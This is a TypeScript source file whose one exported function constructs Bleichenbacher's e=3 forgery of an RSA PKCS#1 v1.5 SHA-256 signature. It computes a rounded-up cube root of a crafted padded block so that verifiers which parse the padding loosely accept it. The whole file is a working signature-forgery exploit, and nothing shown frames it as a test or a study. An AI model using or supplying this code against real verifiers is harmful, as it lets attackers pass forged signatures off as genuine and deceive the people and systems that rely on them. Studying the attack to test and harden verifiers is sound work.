import { createHash } from 'node:crypto';

/**
 * Bleichenbacher's 2006 e=3 forgery of a PKCS#1 v1.5 SHA-256 signature of `k` bytes over `message`:
 * the cube root of 00 01 FF 00 DigestInfo(H(message)) || garbage, rounded up so the prefix survives
 * cubing. Only a verifier that parses the padded block instead of comparing it whole (RFC 8017
 * §8.2.2 step 4) accepts it, with a public exponent of 3.
 */
export function forgeE3Signature(message: Uint8Array, k = 256): Uint8Array {
  const digestInfo = Buffer.from('3031300d060960864801650304020105000420', 'hex');
  const digest = createHash('sha256').update(message).digest();
  const prefix = Buffer.concat([Buffer.from([0, 1, 0xff, 0]), digestInfo, digest]);
  const garbageBits = BigInt(8 * (k - prefix.length));
  const target = BigInt(`0x${prefix.toString('hex')}`) << garbageBits;
  // Newton's method for the integer cube root, then round up.
  let root = 1n << BigInt(Math.ceil((8 * k) / 3));
  for (;;) {
    const next = (2n * root + target / (root * root)) / 3n;
    if (next >= root) break;
    root = next;
  }
  while (root ** 3n < target) root++;
  if ((root ** 3n) >> garbageBits !== target >> garbageBits) throw new Error('forgery construction failed');
  return Uint8Array.from(Buffer.from(root.toString(16).padStart(2 * k, '0'), 'hex'));
}
